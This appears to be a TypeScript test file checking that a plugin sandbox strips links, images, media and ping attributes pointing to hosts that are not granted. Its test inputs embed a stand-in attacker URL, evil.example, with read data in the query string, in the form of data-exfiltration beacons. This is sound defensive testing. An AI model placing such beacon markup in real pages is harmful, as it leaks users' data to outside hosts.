// @vitest-environment happy-dom
import { expect, test } from 'vitest'
import { createReach } from './reach.ts'
import { withinHosts } from './within-hosts.ts'

const SECRET = 'https://evil.example/?d=what+was+read'
const original =
  '<p>Text of https://text.example/a</p><img src="https://feed.example/a.png" srcset="https://feed.example/b.png 2x">'
/** @returns what is shown, and the hosts that it contacts */
const shown = (html: string) => {
  const contacts: string[] = []
  const hosts = new Set(['granted.example:8443'])
  const after = withinHosts(html, { hosts, original, contacted: (host) => contacts.push(host) })
  return [after, contacts]
}

test.each([
  [`<img src="${SECRET}">`, '<img>'],
  [`<img src="//evil.example/a">`, '<img>'],
  [`<img src="/api/anything?d=x">`, '<img>'],
  [`<img srcset="https://feed.example/b.png 1x, ${SECRET} 2x">`, '<img>'],
  [`<img srcset="https://feed.example/b.png,${SECRET}">`, '<img>'],
  [`<video src="${SECRET}" poster="${SECRET}"></video>`, '<video></video>'],
  [`<audio><source src="${SECRET}"></audio>`, '<audio><source></audio>'],
  [`<embed src="${SECRET}">`, '<embed>'],
  [`<object data="${SECRET}"></object>`, '<object></object>'],
  [`<p background="${SECRET}">a</p>`, '<p>a</p>'],
  [`<a href="${SECRET}" ping="${SECRET}">a</a>`, '<a>a</a>'],
  [`<a href="https://granted.example/">another port</a>`, '<a>another port</a>'],
  [`<IMG SRC = 'https://evil.example/x'>`, '<img>'],
  [`<template><img src="${SECRET}"></template>`, ''],
])('%s leads nowhere', (html, after) => {
  expect(shown(html)).toEqual([after, []])
})

test('addresses of what the plugin was handed, and those within the entry, stay', () => {
  const html = `${original}<a href="https://text.example/a">a</a><a href="#b">b</a><img src="data:image/png;base64,AA==">`
  expect(shown(html)).toEqual([html, []])
})

test('what was granted is shown, and is a contact', () => {
  const html = '<img src="https://granted.example:8443/a.png"><a href="https://granted.example:8443/">a</a>'
  expect(shown(html)).toEqual([html, ['granted.example:8443']])
})

test('a tree links to what was granted, in the settings of now, and to the user’s entries', () => {
  const reach = createReach({ permissions: ['entries:read', 'net:{endpoint}=a.example'] }, () => {})
  const link = (url: string) => ({ kind: 'link', label: 'a', url, key: url }) as const
  const text = (url: string) => ({ kind: 'text', text: 'a', key: url })
  const urls = ['https://a.example/x', 'https://entry.example/1', SECRET]
  const drawn = () => reach.tree({ kind: 'stack', children: [{ kind: 'list', items: urls.map(link) }] })
  const expected = (...reached: boolean[]) => ({
    kind: 'stack',
    children: [{ kind: 'list', items: urls.map((url, at) => (reached[at] ? link(url) : text(url))) }],
  })
  expect(drawn()).toEqual(expected(false, false, false))
  reach.received([{ url: 'https://entry.example/1' }])
  reach.settingsChanged({ endpoint: 'https://a.example/' })
  expect(drawn()).toEqual(expected(true, true, false))
  reach.settingsChanged({ endpoint: 'https://b.example/' })
  expect(drawn()).toEqual(expected(false, true, false))
})
